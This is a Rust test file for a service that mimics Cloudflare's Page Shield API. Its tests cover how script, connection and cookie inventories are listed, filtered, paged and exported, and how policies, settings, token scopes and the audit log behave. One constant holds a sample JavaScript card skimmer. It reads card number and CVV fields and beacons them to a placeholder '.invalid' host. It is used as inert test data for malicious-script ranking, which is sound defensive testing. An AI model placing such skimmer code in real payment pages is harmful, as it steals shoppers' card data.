//! The REST in Cloudflare's shapes, over the router.
#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "what is not as expected fails the test; what was skipped is said"
)]

use std::time::Duration;

use axum::Router;
use axum::body::{Body, to_bytes};
use axum::http::{Method, Request, StatusCode};
use serde_json::{Value, json};
use service::{Config, Scope, Service};
use tower::ServiceExt as _;
use verdict::Timestamp;

/// A service over a folder of its own.
struct Shop {
    _folder: tempfile::TempDir,
    service: Service,
    router: Router,
    token: String,
}

impl Shop {
    async fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mut config = Config::default();
        config.state = folder.path().join("state");
        let service = Service::open(config).unwrap();
        let token = service.new_token().unwrap().to_owned();
        let router = service.router();
        Self { _folder: folder, service, router, token }
    }

    async fn send(&self, method: Method, path: &str, body: impl Into<Body>) -> (StatusCode, String) {
        self.send_as(&self.token, method, path, body).await
    }

    async fn send_as(
        &self,
        token: &str,
        method: Method,
        path: &str,
        body: impl Into<Body>,
    ) -> (StatusCode, String) {
        let request =
            Request::builder().method(method).uri(path).header("authorization", format!("Bearer {token}"));
        let request = request.header("content-type", "application/json").body(body.into()).unwrap();
        let answer = self.router.clone().oneshot(request).await.unwrap();
        let status = answer.status();
        let bytes = to_bytes(answer.into_body(), 100 << 20).await.unwrap();
        (status, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn get(&self, path: &str) -> Value {
        let (status, text) = self.send(Method::GET, &format!("{ZONE}{path}"), Body::empty()).await;
        assert_eq!(status, StatusCode::OK, "{path}: {text}");
        let answer: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(
            (&answer["success"], &answer["errors"], &answer["messages"]),
            (&json!(true), &json!([]), &json!([]))
        );
        answer
    }

    /// Takes in what was seen, and waits until so many resources are in the inventory.
    async fn observe(&self, body: String, resources: u64) {
        let (status, text) = self.send(Method::POST, "/observe/shop", body).await;
        assert_eq!(status, StatusCode::OK, "{text}");
        let name = "shop".parse().unwrap();
        for _ in 0..1_500 {
            if let Some(site) = self.service.sites().get(&name).await.unwrap()
                && site.read(|reader| reader.count()).await.unwrap() >= resources
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("it never came into the inventory");
    }
}

const ZONE: &str = "/client/v4/zones/shop/page_shield";

fn seen(count: usize) -> String {
    let mut lines = String::new();
    for number in 0..count {
        for _ in 0..3 {
            let line = json!({
                "kind": "script",
                "url": format!("https://cdn{}.widget.example/lib-{}.js", number % 3, letters(number)),
                "page_url": "https://shop.example/pay",
                "seen_at": minutes_ago(60 - (number % 60) as u64),
                "text": format!("rate({number})"),
            });
            lines.push_str(&format!("{line}\n"));
        }
    }
    lines
}

fn minutes_ago(minutes: u64) -> String {
    let at = std::time::SystemTime::now() - Duration::from_secs(60 * minutes);
    Timestamp::from(at).to_string()
}

/// A name that no counter is in.
fn letters(number: usize) -> String {
    number.to_string().bytes().map(|digit| char::from(b'a' + (digit - b'0'))).collect()
}

fn urls(answer: &Value) -> Vec<&str> {
    answer["result"].as_array().unwrap().iter().map(|row| row["url"].as_str().unwrap()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn scripts_are_listed_filtered_and_paged() {
    let shop = Shop::new().await;
    shop.observe(seen(7), 7).await;
    let all = shop.get("/scripts").await;
    assert_eq!(
        all["result_info"],
        json!({"page": 1, "per_page": 100, "count": 7, "total_count": 7, "total_pages": 1})
    );
    let row = &all["result"][0];
    for field in [
        "id",
        "added_at",
        "first_seen_at",
        "last_seen_at",
        "host",
        "url",
        "hash",
        "fetched_at",
        "first_page_url",
    ] {
        assert!(row[field].is_string(), "{field}: {row}");
    }
    for field in ["js_integrity_score", "magecart_score", "cryptomining_score", "malware_score"] {
        assert!(row[field].as_u64().is_some_and(|score| (1..=99).contains(&score)), "{field}: {row}");
    }
    assert_eq!(
        (&row["url_contains_cdn_cgi_path"], &row["malicious_url_categories"]),
        (&json!(false), &json!([]))
    );
    assert!(row.get("malicious").is_none() && row.get("versions").is_none());
    let pages = [1, 2, 3].map(|page| format!("/scripts?per_page=3&page={page}"));
    let mut found = Vec::new();
    for page in &pages {
        found.extend(urls(&shop.get(page).await).into_iter().map(str::to_owned));
    }
    assert_eq!(found, urls(&all));
    assert_eq!(shop.get("/scripts?per_page=3&page=4").await["result"], json!([]));
    assert_eq!(urls(&shop.get("/scripts?page=all").await).len(), 7);
    let ascending = shop.get("/scripts?direction=asc&order_by=first_seen_at").await;
    assert_eq!(urls(&ascending).first(), urls(&all).last());
    for (query, count) in [
        ("hosts=cdn0.widget.example", 3),
        ("hosts=cdn0.widget.example,cdn1.*", 5),
        ("hosts=*.other.example", 0),
        ("page_url=https://shop.example/*", 7),
        ("urls=lib-a.js,lib-b.js", 2),
        ("exclude_urls=lib-a.js", 6),
        ("status=infrequent", 0),
        ("status=active,infrequent,inactive", 7),
        ("prioritize_malicious=false&exclude_duplicates=true", 7),
        ("a_name_nobody_knows=1", 7),
    ] {
        assert_eq!(
            shop.get(&format!("/scripts?{query}")).await["result_info"]["total_count"],
            count,
            "{query}"
        );
    }
    for query in [
        "status=old",
        "page=0",
        "per_page=x",
        "direction=up",
        "order_by=url",
        "export=pdf",
        "exclude_cdn_cgi=maybe",
    ] {
        let (status, text) = shop.send(Method::GET, &format!("{ZONE}/scripts?{query}"), Body::empty()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        let answer: Value = serde_json::from_str(&text).unwrap();
        assert!(answer["errors"][0]["code"].is_u64() && answer["errors"][0]["message"].is_string(), "{text}");
    }
    let (_, csv) = shop.send(Method::GET, &format!("{ZONE}/scripts?export=csv"), Body::empty()).await;
    assert_eq!(csv.lines().count(), 8);
}

#[tokio::test(flavor = "multi_thread")]
async fn one_script_has_its_versions_and_another_kind_is_not_found() {
    let shop = Shop::new().await;
    shop.observe(
        seen(1) + &json!({"kind": "connection", "url": "https://api.widget.example/x"}).to_string(),
        2,
    )
    .await;
    let id = shop.get("/scripts").await["result"][0]["id"].as_str().unwrap().to_owned();
    assert_eq!(id.len(), 32);
    let one = shop.get(&format!("/scripts/{id}")).await;
    assert_eq!(one["result"]["versions"].as_array().unwrap().len(), 1);
    assert_eq!(one["result"]["versions"][0]["hash"], one["result"]["hash"]);
    let connections = shop.get("/connections?status=infrequent").await;
    let connection = connections["result"][0]["id"].as_str().unwrap();
    assert!(shop.get(&format!("/connections/{connection}")).await["result"].get("versions").is_none());
    for path in [format!("/connections/{id}"), "/scripts/0".into(), "/scripts/../x".into(), "/nothing".into()]
    {
        let (status, text) = shop.send(Method::GET, &format!("{ZONE}{path}"), Body::empty()).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{path}");
        assert_eq!(serde_json::from_str::<Value>(&text).unwrap()["success"], false, "{text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn policies_are_made_read_changed_and_removed() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    let policy = json!({
        "action": "allow", "description": "checkout", "enabled": true, "value": "script-src 'none';",
        "expression": "ends_with(http.request.uri.path, \"/checkout\")",
    });
    let (status, text) = shop.send(Method::POST, &format!("{ZONE}/policies"), policy.to_string()).await;
    assert_eq!(status, StatusCode::OK, "{text}");
    let made: Value = serde_json::from_str::<Value>(&text).unwrap()["result"].clone();
    let id = made["id"].as_str().unwrap().to_owned();
    for field in ["action", "description", "enabled", "value", "expression"] {
        assert_eq!(made[field], policy[field]);
    }
    assert_eq!(shop.get("/policies").await["result"], json!([made]));
    let (status, _) =
        shop.send(Method::PUT, &format!("{ZONE}/policies/{id}"), json!({"action": "log"}).to_string()).await;
    assert_eq!(status, StatusCode::OK);
    let changed = shop.get(&format!("/policies/{id}")).await["result"].clone();
    assert_eq!((&changed["action"], &changed["value"]), (&json!("log"), &policy["value"]));
    let too_long = format!("script-src {}", "a".repeat(6_000));
    for (field, wrong) in [
        ("action", json!("block")),
        ("enabled", Value::Null),
        ("value", json!("script-src 'self'\nX: y")),
        ("value", json!(too_long)),
        ("expression", json!("http.host eq")),
    ] {
        let mut body = policy.clone();
        body[field] = wrong;
        let (status, text) = shop.send(Method::POST, &format!("{ZONE}/policies"), body.to_string()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {text}");
        assert!(text.contains(field), "{text}");
    }
    let (status, _) = shop.send(Method::DELETE, &format!("{ZONE}/policies/{id}"), Body::empty()).await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let (status, _) = shop.send(Method::DELETE, &format!("{ZONE}/policies/{id}"), Body::empty()).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, text) = shop.send(Method::PATCH, &format!("{ZONE}/policies"), Body::empty()).await;
    assert_eq!(status, StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(serde_json::from_str::<Value>(&text).unwrap()["success"], false);
}

#[tokio::test(flavor = "multi_thread")]
async fn settings_are_kept() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    assert_eq!(shop.get("").await["result"]["enabled"], true);
    let change = json!({"enabled": false, "use_connection_url_path": true}).to_string();
    let (status, _) = shop.send(Method::PUT, ZONE, change).await;
    assert_eq!(status, StatusCode::OK);
    let settings = shop.get("").await["result"].clone();
    assert_eq!((&settings["enabled"], &settings["use_connection_url_path"]), (&json!(false), &json!(true)));
    assert!(settings["updated_at"].is_string());
}

#[tokio::test(flavor = "multi_thread")]
async fn cookies_of_an_archive_are_listed_without_values() {
    let shop = Shop::new().await;
    let har = json!({"log": {"version": "1.2", "pages": [{"id": "p", "title": "https://www.shop.example/pay"}], "entries": [
        {"pageref": "p", "request": {"method": "GET", "url": "https://www.shop.example/pay", "headers": []},
         "response": {"status": 200, "headers": [{"name": "Set-Cookie", "value": "sid=s3cret; Path=/; Secure; HttpOnly; SameSite=Strict"}],
            "content": {"mimeType": "text/html", "text": "<script>rate(1)</script>"}}},
        {"pageref": "p", "request": {"method": "GET", "url": "https://t.ads.example/i.js", "headers": []},
         "response": {"status": 200, "headers": [{"name": "Set-Cookie", "value": "uid=1"}],
            "content": {"mimeType": "text/javascript", "text": "rate(2)"}}},
    ]}});
    shop.observe(har.to_string(), 2).await;
    let all = shop.get("/cookies").await;
    assert_eq!(all["result_info"]["total_count"], 2);
    assert!(!all.to_string().contains("s3cret"));
    for (query, count) in [
        ("type=first_party", 1),
        ("type=unknown", 1),
        ("secure=true&http_only=true&same_site=strict", 1),
        ("name=u*", 1),
        ("hosts=*.ads.example", 1),
        ("path=/", 1),
        ("page_url=https://www.shop.example/pay", 2),
    ] {
        assert_eq!(
            shop.get(&format!("/cookies?{query}")).await["result_info"]["total_count"],
            count,
            "{query}"
        );
    }
    let id = all["result"][0]["id"].as_str().unwrap();
    assert_eq!(shop.get(&format!("/cookies/{id}")).await["result"], all["result"][0]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_of_one_site_reads_nothing_of_another() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    let (_, other) =
        shop.service.tokens().add("blog", &[Scope::Read], Some(&["blog".parse().unwrap()])).unwrap();
    let (_, reader) = shop.service.tokens().add("reader", &[Scope::Read], None).unwrap();
    for (token, method, path, want) in [
        (other.as_str(), Method::GET, "/scripts", StatusCode::FORBIDDEN),
        (&other, Method::GET, "", StatusCode::FORBIDDEN),
        ("pwd_wrong", Method::GET, "/scripts", StatusCode::FORBIDDEN),
        (&reader, Method::GET, "/scripts", StatusCode::OK),
        (&reader, Method::POST, "/policies", StatusCode::FORBIDDEN),
        (&reader, Method::PUT, "", StatusCode::FORBIDDEN),
    ] {
        let (status, text) = shop.send_as(token, method.clone(), &format!("{ZONE}{path}"), "{}").await;
        assert_eq!(status, want, "{method} {path}: {text}");
    }
    // A site that is not there looks the same to it as one that is.
    let (there, _) = shop.send_as(&other, Method::GET, &format!("{ZONE}/scripts"), "").await;
    let (not, _) = shop.send_as(&other, Method::GET, "/client/v4/zones/none/page_shield/scripts", "").await;
    assert_eq!(there, not);
}

/// A script and a connection on two pages, one of them at a port.
fn addresses() -> String {
    let script =
        |url: &str, page: &str| json!({"kind": "script", "url": url, "page_url": page}).to_string() + "\n";
    let first = script("https://cdn.widget.example:8443/a,b.js", "https://shop.example/pay/card");
    let second = script("https://other.example/c%20d.js", "https://shop.example/");
    first.repeat(3) + &second.repeat(3)
}

#[tokio::test(flavor = "multi_thread")]
async fn patterns_are_of_hosts_with_ports_and_of_pages_without_a_scheme() {
    let shop = Shop::new().await;
    shop.observe(addresses(), 2).await;
    for (query, count) in [
        ("hosts=cdn.widget.example", 1),
        ("hosts=CDN.widget.example", 1),
        ("hosts=cdn.widget.example:8443", 1),
        ("hosts=cdn.widget.example:443", 0),
        ("hosts=other.example:443", 1),
        ("hosts=*.widget.example:*,other.example", 2),
        ("hosts=widget", 0),
        ("hosts=*widget*", 1),
        ("page_url=shop.example/pay/card", 1),
        ("page_url=shop.example/pay", 0),
        ("page_url=shop.example/*", 2),
        ("page_url=shop.example", 1),
        ("page_url=https://shop.example", 1),
        ("page_url=https://shop.example/pay/card", 1),
        ("page_url=http://shop.example/pay/card", 0),
        ("page_url=*/card", 1),
        ("page_url=*pay*", 1),
        ("page_url=nothing,*/card", 1),
        // Commas divide, so that clients encode those of a URL by themselves.
        ("urls=a%252Cb", 1),
        ("exclude_urls=a%252Cb", 1),
        ("urls=c%2520d.js", 1),
        ("urls=https%253A%252F%252Fother", 1),
        ("per_page=1.0&page=2", 2),
    ] {
        let found = shop.get(&format!("/scripts?{query}")).await;
        assert_eq!(found["result_info"]["total_count"], count, "{query}");
    }
    for per_page in ["0", "-1", "1.5", "NaN", "1e2"] {
        let path = format!("{ZONE}/scripts?per_page={per_page}");
        let (status, _) = shop.send(Method::GET, &path, Body::empty()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{per_page}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_exported_list_has_the_fields_of_the_list() {
    let shop = Shop::new().await;
    shop.observe(addresses() + &json!({"kind": "connection", "url": "wss://chat.example/"}).to_string(), 3)
        .await;
    for (path, fields, rows) in [
        ("scripts?export=csv", 19, 2),
        ("scripts?export=csv&per_page=1&page=2", 19, 2),
        ("connections?export=csv&status=all", 13, 1),
    ] {
        let (status, csv) = shop.send(Method::GET, &format!("{ZONE}/{path}"), Body::empty()).await;
        assert_eq!(status, StatusCode::OK);
        let mut lines = csv.lines();
        let header: Vec<&str> = lines.next().unwrap().split(',').collect();
        assert_eq!((header.len(), &header[..3]), (fields, &["id", "host", "url"][..]), "{path}");
        // There is no boolean `malicious` in this API.
        assert!(!header.contains(&"malicious") && !header.contains(&"status"), "{header:?}");
        assert_eq!(lines.count(), rows, "{path}: {csv}");
    }
    let (_, csv) = shop.send(Method::GET, &format!("{ZONE}/scripts?export=csv"), Body::empty()).await;
    assert!(csv.contains(",\"https://cdn.widget.example:8443/a,b.js\",false,"), "{csv}");
}

#[tokio::test(flavor = "multi_thread")]
async fn every_change_is_in_the_audit_log() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    let policy = json!({
        "action": "log", "description": "all", "enabled": true, "value": "script-src 'self'", "expression": "true",
    });
    let put = json!({"use_connection_url_path": true}).to_string();
    assert_eq!(shop.send(Method::PUT, ZONE, put).await.0, StatusCode::OK);
    let (_, made) = shop.send(Method::POST, &format!("{ZONE}/policies"), policy.to_string()).await;
    let id = serde_json::from_str::<Value>(&made).unwrap()["result"]["id"].as_str().unwrap().to_owned();
    let path = format!("{ZONE}/policies/{id}");
    assert_eq!(shop.send(Method::PUT, &path, r#"{"enabled": false}"#).await.0, StatusCode::OK);
    assert_eq!(shop.send(Method::DELETE, &path, "").await.0, StatusCode::NO_CONTENT);
    // What was refused is no change.
    assert_eq!(shop.send(Method::PUT, &path, r#"{"enabled": true}"#).await.0, StatusCode::NOT_FOUND);
    assert_eq!(shop.send(Method::PUT, ZONE, r#"{"enabled": 3}"#).await.0, StatusCode::BAD_REQUEST);
    let (_, log) = shop.send(Method::GET, "/api/v1/sites/shop/audit", "").await;
    let log: Value = serde_json::from_str(&log).unwrap();
    let entries = log["entries"].as_array().unwrap();
    let said: Vec<_> = entries.iter().rev().map(|entry| entry["action"].as_str().unwrap()).collect();
    assert_eq!(said, ["site_settings", "policy_add", "policy_change", "policy_remove"], "{log}");
    let details = |place: usize| &entries[entries.len() - 1 - place]["details"];
    assert_eq!(
        (&details(0)["before"]["use_connection_url_path"], &details(0)["after"]["use_connection_url_path"]),
        (&json!(false), &json!(true))
    );
    assert_eq!((&details(1)["before"], &details(1)["after"]["value"]), (&Value::Null, &policy["value"]));
    assert_eq!(
        (&details(2)["before"]["enabled"], &details(2)["after"]["enabled"]),
        (&json!(true), &json!(false))
    );
    assert_eq!((&entries[0]["subject"], &details(3)["after"]), (&json!(id), &Value::Null));
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_that_are_no_object_of_this_shape_change_nothing() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    let before = shop.get("").await["result"].clone();
    for wrong in
        ["", "null", "[]", "[false, true, true]", "\"x\"", "{", "{\"enabled\": \"no\"}", "{\"enabled\": 0}"]
    {
        for (method, path) in [(Method::PUT, ZONE.to_owned()), (Method::POST, format!("{ZONE}/policies"))] {
            let (status, text) = shop.send(method.clone(), &path, wrong).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{method} {wrong}: {text}");
            assert_eq!(serde_json::from_str::<Value>(&text).unwrap()["success"], false, "{text}");
        }
    }
    let five = r#"["log", "all", true, "true", "script-src 'self'"]"#;
    assert_eq!(shop.send(Method::POST, &format!("{ZONE}/policies"), five).await.0, StatusCode::BAD_REQUEST);
    assert_eq!(shop.get("").await["result"], before);
    assert_eq!(shop.get("/policies").await["result"], json!([]));
    // What is left out stays, and what is unknown is passed over.
    let put = r#"{"use_cloudflare_reporting_endpoint": true, "of_tomorrow": 1}"#;
    assert_eq!(shop.send(Method::PUT, ZONE, put).await.0, StatusCode::OK);
    let after = shop.get("").await["result"].clone();
    assert_eq!(
        (&after["enabled"], &after["use_cloudflare_reporting_endpoint"], &after["use_connection_url_path"]),
        (&json!(true), &json!(true), &json!(false))
    );
}

fn connection(url: &str) -> String {
    format!("{}\n", json!({"kind": "connection", "url": url, "page_url": "https://shop.example/pay"}))
}

#[tokio::test(flavor = "multi_thread")]
async fn connections_are_kept_by_their_url_while_that_is_switched_on() {
    let shop = Shop::new().await;
    let known = async || {
        let answer = shop.get("/connections?status=all&direction=asc&order_by=first_seen_at").await;
        urls(&answer).into_iter().map(str::to_owned).collect::<Vec<_>>()
    };
    shop.observe(connection("https://api.widget.example/v1/pay"), 1).await;
    assert_eq!(known().await, ["https://api.widget.example"]);
    let switch = |on: bool| json!({"use_connection_url_path": on}).to_string();
    assert_eq!(shop.send(Method::PUT, ZONE, switch(true)).await.0, StatusCode::OK);
    shop.observe(
        connection("https://api.widget.example/v1/pay") + &connection("https://api.widget.example/v2"),
        3,
    )
    .await;
    let mut both = known().await;
    both.sort();
    assert_eq!(
        both,
        ["https://api.widget.example", "https://api.widget.example/v1/pay", "https://api.widget.example/v2"]
    );
    assert_eq!(shop.send(Method::PUT, ZONE, switch(false)).await.0, StatusCode::OK);
    shop.observe(connection("https://api.widget.example/v3") + &connection("https://late.example/v3"), 4)
        .await;
    let urls = known().await;
    assert!(urls.iter().any(|url| url == "https://late.example"), "{urls:?}");
    assert!(!urls.iter().any(|url| url.ends_with("/v3")), "{urls:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_site_that_is_switched_off_takes_nothing_in() {
    let shop = Shop::new().await;
    shop.observe(seen(1), 1).await;
    let switch = |on: bool| json!({"enabled": on}).to_string();
    assert_eq!(shop.send(Method::PUT, ZONE, switch(false)).await.0, StatusCode::OK);
    shop.observe(connection("https://off.example/"), 1).await;
    let applied = async || {
        let (_, text) = shop.send(Method::GET, "/status", "").await;
        text
    };
    for round in 0.. {
        if applied().await.contains("switched_off") {
            break;
        }
        assert!(round < 1_500, "{}", applied().await);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(shop.get("/connections?status=all").await["result"], json!([]));
    assert_eq!(urls(&shop.get("/scripts").await).len(), 1);
    assert_eq!(shop.send(Method::PUT, ZONE, switch(true)).await.0, StatusCode::OK);
    shop.observe(connection("https://on.example/"), 2).await;
    assert_eq!(urls(&shop.get("/connections?status=all").await), ["https://on.example"]);
}

/// Sends nothing: the host does not exist, and nobody runs it.
const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };\
    new Image().src = '//collect.invalid/p.gif?d=' + btoa(JSON.stringify(card));\
});";

#[tokio::test(flavor = "multi_thread")]
async fn malicious_ones_come_first_and_duplicates_once() {
    let shop = Shop::new().await;
    let seen = |name: &str, minutes: u64, text: &str, times: usize| {
        let url = format!("https://cdn.widget.example/{name}.js");
        let line = json!({
            "kind": "script", "url": url, "page_url": "https://shop.example/pay", "text": text, "seen_at": minutes_ago(minutes),
        });
        format!("{line}\n").repeat(times)
    };
    // Two with the same content on the same host, another, and a malicious one that is seldom seen.
    let lines = seen("bad", 50, SKIMMER, 1)
        + &seen("early", 40, "rate(1)", 3)
        + &seen("late", 20, "rate(1)", 3)
        + &seen("cdn-cgi/own", 10, "rate(3)", 3)
        + &seen("other", 30, "rate(2)", 3);
    shop.observe(lines, 5).await;
    let names = async |query: &str| {
        let answer = shop.get(&format!("/scripts?{query}")).await;
        let name = |url: &str| url.rsplit('/').next().unwrap().trim_end_matches(".js").to_owned();
        let names: Vec<String> = urls(&answer).into_iter().map(name).collect();
        (names.join(" "), answer["result_info"]["total_count"].as_u64().unwrap())
    };
    for (query, want, total) in [
        ("", "bad late other early", 4),
        ("direction=asc", "bad early other late", 4),
        ("prioritize_malicious=true&order_by=first_seen_at", "bad late other early", 4),
        ("prioritize_malicious=false", "late other early bad", 4),
        ("prioritize_malicious=false&direction=asc&order_by=first_seen_at", "bad early other late", 4),
        ("exclude_duplicates=true", "bad late other", 3),
        ("exclude_duplicates=true&direction=asc", "bad other late", 3),
        ("exclude_duplicates=true&urls=early", "early", 1),
        ("exclude_cdn_cgi=false", "bad own late other early", 5),
        // A status never hides what is malicious.
        ("status=inactive", "bad", 1),
        ("status=infrequent,inactive", "bad", 1),
        ("status=all&per_page=2&page=1", "bad late", 4),
        ("status=all&per_page=2&page=2", "other early", 4),
        ("per_page=3&page=2", "early", 4),
        ("per_page=3&page=3", "", 4),
        ("per_page=50001&page=18446744073709551615", "", 4),
        ("page=all&per_page=1", "bad late other early", 4),
    ] {
        assert_eq!(names(query).await, (want.to_owned(), total), "{query}");
    }
    let id = shop.get("/scripts?urls=own&exclude_cdn_cgi=0").await["result"][0].clone();
    assert_eq!(id["url_contains_cdn_cgi_path"], true);
}
